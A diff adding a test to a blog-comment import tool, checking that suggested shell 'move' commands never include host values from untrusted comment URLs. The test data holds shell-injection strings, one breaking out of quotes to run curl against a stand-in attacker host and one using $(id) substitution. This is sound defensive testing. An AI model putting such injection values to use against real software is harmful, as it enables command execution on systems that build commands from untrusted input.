@@ -15,6 +15,13 @@ it('says what is kept under whole addresses, as of blogs that gave Valine locati
   expect(lines.join('\n')).toContain("glimpress-comments move 'https://blog.example/*' '/*'");
 });
 
+it('tells no command with what a stranger wrote as a host: a shell would run it', async () => {
+  const file = database.written('Comment.json', jsonLines([comment('5cc6b3aa0000000000000003', { url: "http://a';{curl,evil.example};'/" }), comment('5cc6b3aa0000000000000004', { url: 'http://$(id).example/' }), comment('5cc6b3aa0000000000000005', { url: 'http://[::1]:80/' })]));
+  const lines = reportLines(await runImport(database.storage, { files: [file], dryRun: true, onProgress: () => undefined }), true).join('\n');
+  expect(lines).toContain("glimpress-comments move 'http://[::1]/*' '/*'");
+  expect(lines).not.toMatch(/curl|\$\(id\)/);
+});
+
 it('after such pages moved, an import of what came since adds it to the same counters', async () => {
   const counter = (time: number): string => jsonLines([{ objectId: '5cc6b3aa00000000000000c1', url: 'https://blog.example/a.html', time, title: '一' }]);
   await database.imported('Counter.json', counter(3));
